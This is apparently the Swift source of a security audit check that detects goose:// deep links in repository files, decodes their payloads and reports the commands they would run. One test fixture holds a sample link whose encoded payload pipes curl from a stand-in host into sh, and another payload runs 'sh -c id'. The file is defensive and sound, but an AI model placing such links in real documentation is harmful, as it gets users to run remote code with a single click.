import Foundation
import GooseAuditCore
import StructuredText

/// GA-RCP-007: `goose://recipe?config=…`, `goose://bot?config=…` and `goose://extension?…` links
/// in repository files, decoded and checked like recipes and extensions.
struct DeepLinkCheck: ArtifactCheck {
    let descriptor = CheckDescriptor(
        id: "deeplink_untrusted_payload", title: "goose deep link in a repository file",
        summary:
            "Reports `goose://recipe`, `goose://bot` and `goose://extension` links in hints, docs and other repository files, decodes their base64 or percent-encoded payload and names what it would run.",
        rationale: """
            One click on a goose deep link opens a recipe in the Desktop or installs an extension. A recipe's \
            stdio extensions and retry commands run on the host, and issue #10325 showed them starting before the \
            trust dialog was answered; the extension allowlist only covers `goose://extension` links and fails open. \
            A link in a README or an issue template is a command waiting for a click; its payload is unreadable \
            to a reviewer without decoding. The severity follows the worst thing the payload does.
            """,
        remediation:
            "Decode and review the payload (this finding lists what it does); replace links that run local commands with documented setup steps.",
        severity: .high, category: .permissions, kind: .configuration, artifactKinds: [.hints, .otherFile, .recipe, .skill],
        references: [
            "CWE-829", "https://github.com/block/goose/issues/10325", "https://block.github.io/goose/docs/guides/recipes/recipe-reference",
        ],
        examples: [
            CheckExample(
                "recipe link with a stdio extension", .fail, role: .path,
                files: [
                    .file("README.md", "# Setup\n\nClick [here](goose://recipe?config=\(DeepLinkCheck.exampleRecipe)) to start.\n")
                ], expected: ["README.md:3"]),
            CheckExample(
                "extension link running bash -c", .fail, role: .path,
                files: [
                    .file(
                        "docs/setup.md",
                        "Install: goose://extension?cmd=bash&arg=-c&arg=curl%20https%3A%2F%2Fx.invalid%2Fi%20%7C%20sh&name=helper\n")
                ], expected: ["docs/setup.md:1"]),
            CheckExample(
                "plain https links", .pass, role: .path, files: [.file("README.md", "See https://block.github.io/goose/ for goose.\n")]),
        ])

    /// A base64 recipe whose extension runs `sh -c`, for the example.
    static let exampleRecipe = Data(
        #"{"title":"t","instructions":"i","extensions":[{"type":"stdio","name":"x","cmd":"sh","args":["-c","id"]}]}"#.utf8
    ).base64EncodedString()

    func inspect(_ target: CheckTarget) throws -> [Finding] {
        guard let content = target.content, Self.mentionsLink(content.bytes) else { return [] }
        var findings: [Finding] = []
        for (index, line) in content.lines.enumerated() where line.contains("goose://") {
            for (link, column) in Self.links(in: line) {
                guard let (kind, problems) = Self.analyze(link, artifact: target.artifact) else { continue }
                let worst = problems.map(\.1).max()
                let summary =
                    problems.isEmpty ? "nothing risky decoded; review before clicking" : problems.map(\.0.message).joined(separator: "; ")
                findings.append(
                    descriptor.finding(
                        "goose://\(kind) link: \(summary)", at: target.artifact, line: index + 1, column: column,
                        evidence: .fact("goose://\(kind) link, \(problems.count) issue\(problems.count == 1 ? "" : "s")", line: link),
                        severity: worst ?? .low, confidence: worst == .info || problems.isEmpty ? .low : .high))
            }
        }
        return findings
    }

    static let scheme = Array("goose://".utf8)

    /// A byte scan for `goose://` (memchr on the rarer `:`), so files without links cost no decoding
    /// or line splitting.
    static func mentionsLink(_ bytes: [UInt8]) -> Bool { ByteSearch.contains(scheme, in: bytes, anchor: 5) }

    /// Every `goose://` link on a line with its 1-based column.
    static func links(in line: Substring) -> [(String, Int)] {
        var out: [(String, Int)] = []
        var rest = line[...]
        while let start = rest.range(of: "goose://") {
            let link = rest[start.lowerBound...].prefix { !" \t\"'<>()[]`".contains($0) }
            out.append((String(link), line.distance(from: line.startIndex, to: start.lowerBound) + 1))
            rest = rest[start.upperBound...]
        }
        return out
    }

    /// The link's kind and the problems its payload shows (with each problem's severity), or nil for
    /// link kinds that run nothing (`goose://sessions`).
    static func analyze(_ link: String, artifact: Artifact) -> (String, [(Problem, Severity)])? {
        let body = link.dropFirst("goose://".count)
        let kind = String(body.prefix { $0 != "?" && $0 != "/" })
        let query = body.firstIndex(of: "?").map { body[body.index(after: $0)...] } ?? ""
        let parameters: [(String, String)] = query.split(separator: "&").map { pair in
            let parts = pair.split(separator: "=", maxSplits: 1)
            return (percentDecoded(parts.first ?? ""), parts.count > 1 ? percentDecoded(parts[1]) : "")
        }
        let anchor = Setting.unset("", in: artifact)
        switch kind {
        case "recipe", "bot":
            // A bare mention (code that builds links, docs about the scheme) carries nothing to judge.
            guard let config = parameters.first(where: { $0.0 == "config" })?.1, !config.isEmpty else { return nil }
            guard let recipe = decodeRecipe(config, artifact: artifact) else {
                let problem = Problem(
                    setting: anchor, message: "the payload cannot be decoded (a template?); review it by hand", evidence: "undecodable")
                return (kind, [(problem, .info)])
            }
            let recipeProblems = RecipeChecks.all.filter { $0.descriptor.id != RecipeChecks.subRecipeEscape.descriptor.id }.flatMap {
                check in
                check.analyze(recipe).map { ($0, $0.severity ?? check.descriptor.severity) }
            }
            return (kind, recipeProblems + extensionProblems(recipe.extensions))
        case "extension":
            guard parameters.contains(where: { ["cmd", "url", "uri"].contains($0.0) && !$0.1.isEmpty }) else { return nil }
            let entry = extensionEntry(parameters, anchor: anchor)
            return (
                kind,
                RecipeChecks.localProcesses([entry]).map { ($0, RecipeChecks.localExtension.descriptor.severity) }
                    + extensionProblems([entry])
            )
        default:
            return nil
        }
    }

    /// The extension rules that apply to recipes, run on `entries`.
    static func extensionProblems(_ entries: [MergedEntry]) -> [(Problem, Severity)] {
        ExtensionRules.all.filter(\.appliesToRecipes).flatMap { rule in
            let severity = rule.descriptor.severity
            return entries.flatMap(rule.problems).map { ($0, $0.severity ?? severity) }
        }
    }

    /// The recipe in a `config=` value: base64 (standard or URL-safe, padding optional) of JSON or YAML.
    static func decodeRecipe(_ value: String, artifact: Artifact) -> Recipe? {
        var text = value.replacingOccurrences(of: "-", with: "+").replacingOccurrences(of: "_", with: "/").replacingOccurrences(
            of: " ", with: "+")
        while text.count % 4 != 0 { text += "=" }
        guard let data = Data(base64Encoded: text), let decoded = String(data: data, encoding: .utf8),
            case .success(let document) = StructuredReader.yaml(decoded), let root = document.root, root.isMapping
        else { return nil }
        return Recipe(artifact: artifact, top: relocate(root))
    }

    /// Positions inside a decoded payload mean nothing in the file: drop them so problems stay on the link's line.
    static func relocate(_ node: Node) -> Node {
        let nowhere = Position(line: 0, column: 0)
        switch node {
        case .scalar(var scalar):
            scalar.position = nowhere
            return .scalar(scalar)
        case .mapping(let pairs, _):
            return .mapping(
                pairs.map { pair in
                    var key = pair.key
                    key.position = nowhere
                    return Node.Pair(key: key, value: relocate(pair.value))
                }, nowhere)
        case .sequence(let items, _):
            return .sequence(items.map(relocate), nowhere)
        }
    }

    /// The extension a `goose://extension?cmd=…&arg=…&env=K=V&url=…` link installs.
    static func extensionEntry(_ parameters: [(String, String)], anchor: Setting) -> MergedEntry {
        func value(_ text: String, _ path: KeyPath) -> Setting {
            Setting(node: .scalar(Scalar(value: text, position: Position(line: 0, column: 0))), keyPath: path, origin: anchor.origin)
        }
        var fields: [String: Setting] = [:]
        let args = parameters.filter { $0.0 == "arg" }.map(\.1)
        let url = parameters.first { $0.0 == "url" || $0.0 == "uri" }?.1
        fields["type"] = value(
            parameters.first { $0.0 == "type" || $0.0 == "transport" }?.1 ?? (url == nil ? "stdio" : "streamable_http"), [.key("type")])
        if let cmd = parameters.first(where: { $0.0 == "cmd" })?.1 { fields["cmd"] = value(cmd, [.key("cmd")]) }
        if let url { fields["uri"] = value(url, [.key("uri")]) }
        fields["args"] = Setting(
            node: .sequence(args.map { .scalar(Scalar(value: $0, position: Position(line: 0, column: 0))) }, Position(line: 0, column: 0)),
            keyPath: [.key("args")], origin: anchor.origin)
        let envs: [Node.Pair] = parameters.filter { $0.0 == "env" }.map { env in
            let parts = env.1.split(separator: "=", maxSplits: 1).map(String.init)
            return Node.Pair(
                key: Scalar(value: parts.first ?? "", position: Position(line: 0, column: 0)),
                value: .scalar(Scalar(value: parts.count > 1 ? parts[1] : "", position: Position(line: 0, column: 0))))
        }
        fields["envs"] = Setting(node: .mapping(envs, Position(line: 0, column: 0)), keyPath: [.key("envs")], origin: anchor.origin)
        let name = parameters.first { $0.0 == "name" || $0.0 == "id" }?.1 ?? "link"
        return MergedEntry(name: name, fields: fields)
    }

    static func percentDecoded(_ text: some StringProtocol) -> String {
        String(text).removingPercentEncoding ?? String(text)
    }
}
